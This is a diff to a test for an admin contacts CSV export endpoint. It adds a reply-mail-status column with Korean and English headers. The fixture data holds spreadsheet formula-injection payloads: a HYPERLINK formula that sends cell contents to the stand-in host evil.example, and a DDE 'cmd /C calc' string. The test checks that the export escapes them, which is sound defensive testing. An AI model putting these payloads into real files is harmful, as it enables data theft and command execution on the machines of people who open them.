@@ -478,11 +478,11 @@ describe('GET /api/admin/contacts/export', () => {
     const records = text.slice(1).split('\r\n');
     expect(records.at(-1)).toBe('');
     // Labels in the administrator's language (Korean until My account says otherwise), Jakarta time with its offset.
-    expect(records[0]).toBe('접수번호,접수일,처리 상태,이름,회사명,이메일,연락처,관심 서비스,예산,문의 내용,문의 언어,유입 경로,담당자,후속 조치일,메모 수,마지막 회신');
-    expect(records[1]).toBe(`${second.publicRef},2026-11-02 16:00 (UTC+07:00),완료,山田太郎,한빛상사,minsu.kim@example.com,'+62 812 3456 7890,비자·체류 허가,USD 50K–100K,,,,,,0,`);
+    expect(records[0]).toBe('접수번호,접수일,처리 상태,이름,회사명,이메일,연락처,관심 서비스,예산,문의 내용,문의 언어,유입 경로,담당자,후속 조치일,메모 수,마지막 회신,회신 메일 상태');
+    expect(records[1]).toBe(`${second.publicRef},2026-11-02 16:00 (UTC+07:00),완료,山田太郎,한빛상사,minsu.kim@example.com,'+62 812 3456 7890,비자·체류 허가,USD 50K–100K,,,,,,0,,`);
     expect(records.slice(2, -1).join('\r\n')).toBe(
       `${first.publicRef},2026-11-01 16:00 (UTC+07:00),신규,"'=HYPERLINK(""http://evil.example/?""&A1,""클릭"")",'+cmd|' /C calc'!A0,` +
-        `'@SUM(1+1)@example.com,'-2+3,법인 설립 및 인허가,,"첫 줄, ""인용""\n둘째 줄\t탭",한국어,,,,0,`,
+        `'@SUM(1+1)@example.com,'-2+3,법인 설립 및 인허가,,"첫 줄, ""인용""\n둘째 줄\t탭",한국어,,,,0,,`,
     );
 
     const audit = await auditRows();
@@ -491,7 +491,7 @@ describe('GET /api/admin/contacts/export', () => {
     // In English and Seoul time once the administrator chooses them.
     await db.updateTable('admins').set({ locale: 'en', time_zone: 'Asia/Seoul' }).where('id', '=', admin.id).execute();
     const english = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await exportCsv()).arrayBuffer()).split('\r\n');
-    expect(english[0]).toBe('\uFEFFReference,Received,Status,Name,Company,E-mail,Phone,Service,Budget,Message,Language,Source,Assignee,Follow-up day,Notes,Last reply');
+    expect(english[0]).toBe('\uFEFFReference,Received,Status,Name,Company,E-mail,Phone,Service,Budget,Message,Language,Source,Assignee,Follow-up day,Notes,Last reply,Reply mail status');
     expect(english[1]).toContain(`${second.publicRef},2026-11-02 18:00 (UTC+09:00),Done,山田太郎,`);
   });
 
